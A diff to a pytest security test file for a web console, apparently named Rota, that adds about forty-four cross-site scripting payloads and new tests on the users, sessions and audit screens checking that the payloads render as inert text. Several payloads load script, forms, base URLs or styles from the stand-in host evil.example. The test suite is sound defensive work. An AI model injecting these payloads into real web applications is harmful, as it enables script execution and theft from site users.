@@ -10,6 +10,7 @@ from typing import Any
 from urllib.parse import parse_qsl, urlsplit
 
 import pytest
+from flask import Flask
 
 from app import reads
 from app.contributions import Figure, Panel, PanelContent, PanelTable
@@ -25,9 +26,12 @@ from app.reads.shapes import (
     QueuesView,
     RunDetail,
     SchedulerView,
+    SessionView,
     SetAside,
     TaskDetail,
     TaskPage,
+    TokenView,
+    UserView,
     WorkersView,
     WorkerView,
 )
@@ -50,7 +54,7 @@ from app.views import (
     TaskView,
     Today,
 )
-from tests.console.people import Browser
+from tests.console.people import ADA, Browser, signed_in
 
 NOW = datetime.now(UTC)
 PAYLOADS = [
@@ -71,6 +75,54 @@ PAYLOADS = [
     "../../../etc/passwd",
     "x" * 1_000_000,
 ]
+# Sixty ways in all: these stand together in every text, so that each sink sees each of them.
+MORE = [
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script/src=//evil.example>",
+    "<<script>alert(1)//<</script>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg/onload=alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "<form action=//evil.example><button>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>*{background:url(//evil.example)}</style>",
+    '" style="background:url(//evil.example)',
+    "' autofocus onfocus='alert(1)",
+    "`onload=alert(1)`",
+    '"/><img src=x onerror=alert(1)>',
+    "</pre><script>alert(1)</script>",
+    "</dd></dl><script>alert(1)</script>",
+    "</select><img src=x onerror=alert(1)>",
+    "</style><script>alert(1)</script>",
+    "</noscript><img src=x onerror=alert(1)>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<!--<img src=x onerror=alert(1)>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<x onclick=alert(1)>",
+    "%3Cscript%3Ealert(1)",
+    "&#60;script&#62;alert(1)",
+    "\\u003cscript\\u003ealert(1)",
+    "<\u0000script>alert(1)</script>",
+    "＜script＞alert(1)",
+    "vbscript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "//evil.example",
+]
+ALL_WAYS = [" ".join(MORE), "".join(reversed(MORE))]
 OWN = {"script", "link", "meta", "svg", "iframe", "form", "input", "button"}
 
 
@@ -110,6 +162,7 @@ def hostile(value: Any, payload: str) -> Any:
 
 # What only Rota itself can write.
 FIXED = {
+    "database",
     "failed", "active", "America/New_York", "properties", "type", "integer", "string", "enum",
     "description", "default", "object",
 }  # fmt: skip
@@ -161,10 +214,14 @@ FAILURES = Failures(
 )
 PREVIEW = Preview(SCHEDULE, (FireTime(NOW, "x"),), 1, 2, (NOW,), (NOW,), ("x",), 1, True)
 RELATED = RelatedRuns(2, (RelatedRun("x", "x", "x", NOW),))
+USER = UserView("x", "x", "database", ("x",), ("x",), False, NOW, "x", 1)
+TOKEN = TokenView("x", "x", "database", ("x",), ("x",), NOW, "x", NOW)
+SESSION = SessionView("x", "x", NOW, NOW, "x")
 KIN = RunDetail("x", "x", RELATED, RELATED, RUN)
 SCREENS = (
     "/", "/tasks", "/tasks/t", "/runs", "/runs/r", "/panels/x", "/audit", "/runs?task_id=PAYLOAD",
     "/queues", "/workers", "/failures", "/failures?task_id=PAYLOAD", "/health", "/go",
+    "/users", "/sessions", "/audit?actor=PAYLOAD",
     "/tasks/greet/schedule", "/tasks/greet/schedule?cron=PAYLOAD",
     "/tasks/greet/schedule?new=1&name=PAYLOAD", "/runs?q=PAYLOAD",
 )  # fmt: skip
@@ -194,6 +251,9 @@ def show(monkeypatch: pytest.MonkeyPatch, payload: str) -> None:
         "health": lambda *_: (health(payload), FrameView("ok", 1)),
         "preview": lambda *_, **__: hostile(PREVIEW, payload),
         "audit": lambda *_, **__: Page((audit,), payload),
+        "users": lambda *_: (hostile(USER, payload),),
+        "tokens_of": lambda *_: (hostile(TOKEN, payload),),
+        "open_sessions_of": lambda *_: (hostile(SESSION, payload),),
         "panels": lambda *_: [panel, panel],
         "panel": lambda *_: (panel, hostile(CONTENT, payload)),
     }
@@ -211,20 +271,44 @@ def health(payload: str) -> HealthView:
     )
 
 
+@pytest.fixture
+def admin(console: Flask) -> Browser:
+    return signed_in(console, ADA)
+
+
+def test_sixty_ways_were_tried() -> None:
+    assert len(PAYLOADS) + len(MORE) >= 60
+
+
+@pytest.mark.parametrize(
+    "path", ["/runs?q=", "/audit?actor=", "/audit?since=", "/failures?task_id="]
+)
+def test_what_was_searched_for_is_echoed_as_text(admin: Browser, path: str) -> None:
+    address, name = path.rstrip("=").split("?")
+    for payload in PAYLOADS[:-1] + MORE:
+        query = _query(f"{address}?{name}=PAYLOAD", payload)
+        answer = admin.client.get(address, query_string=query)
+        assert answer.status_code in (200, 422)
+        document = Document(answer.text)
+        assert not [name for _, name, _ in document.attributes if name.startswith("on")]
+        assert document.tags.count("script") == 1
+        assert not {"img", "iframe", "object", "embed", "base", "style"} & set(document.tags)
+
+
 def elements(text: str) -> dict[str, int]:
     tags = Document(text).tags
     return {tag: tags.count(tag) for tag in set(tags)}
 
 
-@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+@pytest.mark.parametrize("payload", PAYLOADS + ALL_WAYS, ids=range(len(PAYLOADS) + 2))
 def test_hostile_text_stays_text_on_every_screen(
-    operator: Browser, monkeypatch: pytest.MonkeyPatch, payload: str
+    admin: Browser, monkeypatch: pytest.MonkeyPatch, payload: str
 ) -> None:
     for screen in SCREENS:
         show(monkeypatch, "harmless")
-        harmless = elements(operator.get(screen.replace("PAYLOAD", "harmless")).text)
+        harmless = elements(admin.get(screen.replace("PAYLOAD", "harmless")).text)
         show(monkeypatch, payload)
-        answer = operator.client.get(screen.split("?")[0], query_string=_query(screen, payload))
+        answer = admin.client.get(screen.split("?")[0], query_string=_query(screen, payload))
         assert answer.status_code == 200, screen
         assert elements(answer.text) == harmless, screen
         for tag, name, value in Document(answer.text).attributes:
